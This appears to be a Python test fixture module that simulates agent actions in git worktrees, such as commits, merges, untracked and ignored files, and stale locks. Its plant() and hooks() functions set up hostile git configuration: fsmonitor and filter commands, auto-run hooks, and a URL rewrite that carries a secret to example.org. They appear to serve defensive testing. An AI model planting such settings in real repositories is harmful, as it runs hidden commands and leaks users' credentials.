"""What agents do in worktrees, and what befalls these, with plain git and plain files."""

from __future__ import annotations

import secrets
import shutil
from collections.abc import Callable
from pathlib import Path

from tests.workspaces.modelled.observing import CACHE, git

SECRET = "hunter2-is-in-no-row"


def _write(path: Path, content: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)


def new() -> str:
    """Bytes that nothing has had."""
    return f"{secrets.token_hex(8)}\n"


def commit(tree: Path) -> None:
    _write(tree / "work.txt", new())
    git("add", "--force", "work.txt", cwd=tree)
    git("commit", "--quiet", "--message", "work", cwd=tree)


def amend(tree: Path) -> None:
    _write(tree / "work.txt", new())
    git("add", "--force", "work.txt", cwd=tree)
    git("commit", "--quiet", "--amend", "--message", "amended", cwd=tree)


def dirty(tree: Path) -> None:
    _write(tree / "README", new())


def untracked(tree: Path) -> None:
    _write(tree / "notes" / "plan.md", new())
    (tree / "empty").mkdir(exist_ok=True)
    run = tree / "notes" / "run.sh"
    _write(run, new())
    run.chmod(0o750)
    link = tree / "notes" / "link"
    link.unlink(missing_ok=True)
    link.symlink_to(f"../README-{new().strip()}")


def ignored(tree: Path) -> None:
    _write(tree / ".gitignore", f".env\n{CACHE}/\n")
    _write(tree / ".env", f"TOKEN={SECRET}-{new()}")
    (tree / ".env").chmod(0o600)
    _write(tree / CACHE / "left-pad" / "index.js", new())


def nested(tree: Path) -> None:
    inner = tree / "vendor" / "inner"
    inner.mkdir(parents=True, exist_ok=True)
    git("init", "--quiet", "--template=", str(inner), cwd=tree)
    _write(inner / "committed", new())
    git("add", "committed", cwd=inner)
    git("commit", "--quiet", "--message", "inner", cwd=inner)
    _write(inner / "loose", new())


def stage(tree: Path) -> None:
    """Also bytes that are staged and then changed again: only the index leads to them."""
    _write(tree / "staged.txt", new())
    git("add", "--force", "staged.txt", cwd=tree)
    _write(tree / "staged.txt", new())


def merge(tree: Path) -> None:
    """One that conflicts, and stays in progress."""
    git("stash", "--quiet", "--include-untracked", cwd=tree)
    theirs = _made(tree)
    _write(tree / "both.txt", new())
    git("add", "--force", "both.txt", cwd=tree)
    git("commit", "--quiet", "--message", "ours", cwd=tree)
    git("merge", "--quiet", theirs, cwd=tree, accept=(0, 1))


def _made(tree: Path) -> str:
    """A commit beside HEAD, which no reference leads to."""
    head = git("rev-parse", "HEAD", cwd=tree).strip()
    _write(tree / "both.txt", new())
    blob = git("hash-object", "-w", "both.txt", cwd=tree).strip()
    git("update-index", "--add", "--cacheinfo", f"100644,{blob},both.txt", cwd=tree)
    listed = git("write-tree", cwd=tree).strip()
    made = git("commit-tree", "-m", "theirs", "-p", head, listed, cwd=tree).strip()
    git("reset", "--quiet", "--hard", cwd=tree)
    return made


def detach(tree: Path) -> None:
    git("checkout", "--quiet", "--detach", cwd=tree)
    commit(tree)


def stale_lock(tree: Path) -> None:
    """As a git that was killed leaves it."""
    admin = git("rev-parse", "--absolute-git-dir", cwd=tree).strip()
    if admin:
        _write(Path(admin, "index.lock"), "")


DEEDS: dict[str, Callable[[Path], None]] = {
    deed.__name__: deed
    for deed in (
        commit,
        amend,
        dirty,
        untracked,
        ignored,
        nested,
        stage,
        merge,
        detach,
        stale_lock,
    )
}


def collect(clone: Path) -> None:
    """Also what agents should not do to a clone that they share."""
    git("worktree", "prune", cwd=clone)
    git("gc", "--quiet", "--prune=now", cwd=clone)


def plant(clone: Path, fires: Path) -> None:
    """What would run a command, or send a secret elsewhere, in the next git that obeys it."""
    for key, value in (
        ("core.fsmonitor", str(fires)),
        ("filter.planted.clean", str(fires)),
        ("filter.planted.smudge", str(fires)),
        (f"url.https://somebody:{SECRET}@example.org/.insteadOf", "file:///"),
    ):
        git("config", "--file", str(clone / "config"), key, value, cwd=clone)
    _write(clone / "info" / "attributes", "* filter=planted\n")


def uproot(clone: Path) -> None:
    for section in (
        "filter.planted",
        f"url.https://somebody:{SECRET}@example.org/",
    ):
        git(
            *("config", "--file", str(clone / "config"), "--remove-section", section),
            cwd=clone,
        )
    git(
        *("config", "--file", str(clone / "config"), "--unset", "core.fsmonitor"),
        cwd=clone,
    )
    (clone / "info" / "attributes").unlink(missing_ok=True)


def hooks(clone: Path, fires: Path) -> None:
    """In the place where git looks for them by itself."""
    (clone / "hooks").mkdir(exist_ok=True)
    for name in ("post-checkout", "reference-transaction", "post-index-change"):
        shutil.copy(fires, clone / "hooks" / name)
